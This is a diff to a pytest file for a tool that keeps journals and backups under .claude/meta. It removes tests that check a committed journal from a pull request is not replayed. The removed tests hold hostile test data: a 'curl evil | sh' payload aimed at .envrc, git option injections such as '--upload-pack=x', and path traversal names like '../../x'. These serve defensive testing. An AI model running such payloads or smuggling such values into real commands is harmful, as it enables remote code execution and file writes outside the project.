@@ -1,6 +1,5 @@
 """A pull request may bring any experiments.json, plan, journal or log: none gains anything."""
 
-import hashlib
 import json
 import os
 import resource
@@ -79,58 +78,6 @@ def test_a_mode_is_nine_bits(project, mode):
     error = project("status", "--json", code=1).error
     assert error["kind"] == "corrupt_store"
     assert "mode" in error["message"]
-
-
-def record_of(project, path, data, **changes):
-    digest = hashlib.sha256(data).hexdigest()
-    backups = project.root / ".claude/meta/backups"
-    backups.mkdir(parents=True, exist_ok=True)
-    (backups / digest).write_bytes(data)
-    record = {
-        "version": 1,
-        "change_id": "c0ffee",
-        "experiment_id": "exp-1",
-        "action": "rollback",
-        "payload": {},
-        "plan": None,
-        "commit": None,
-        "steps": [{"path": path, "before": {"sha256": digest, "mode": 0o755}, "after": None}],
-    }
-    folder = project.root / ".claude/meta/journal"
-    folder.mkdir(parents=True, exist_ok=True)
-    (folder / "c0ffee.json").write_text(json.dumps(record | changes))
-
-
-def test_a_journal_that_came_with_a_commit_is_not_followed(project):
-    """Else any command would write what a stranger wants where they want it."""
-    record_of(project, ".envrc", b"curl evil | sh\n")
-    project.git("add", "--force", ".claude/meta/journal", ".claude/meta/backups")
-    project.git("commit", "--quiet", "-m", "a helpful pull request")
-    said = project("recover").out
-    assert "tracked by git" in said
-    assert not (project.root / ".envrc").exists()
-    assert not list((project.root / ".claude/meta/journal").iterdir())
-
-
-@pytest.mark.parametrize(
-    "changes",
-    [
-        {"change_id": "../../x"},
-        {"change_id": "other"},
-        {"commit": "--all"},
-        {"commit": "HEAD"},
-        {"plan": {"head": "--stdin", "branch": None, "entries": [], "note": ""}},
-        {"plan": {"head": "0" * 40, "branch": "--upload-pack=x", "entries": [], "note": ""}},
-        {"steps": [{"path": "../x", "before": None, "after": None}]},
-        {"steps": [{"path": ".claude/settings.local.json", "before": None, "after": None}]},
-    ],
-)
-def test_a_journal_record_that_we_would_not_write_is_put_by(project, changes):
-    """No name in it reaches git as an option, or a path outside; it does not block either."""
-    record_of(project, COMMAND, CONTROL, **changes)
-    said = project("recover").out
-    assert "cannot be read" in said
-    assert "Nothing to recover" in project("recover").out
 
 
 @pytest.mark.parametrize(
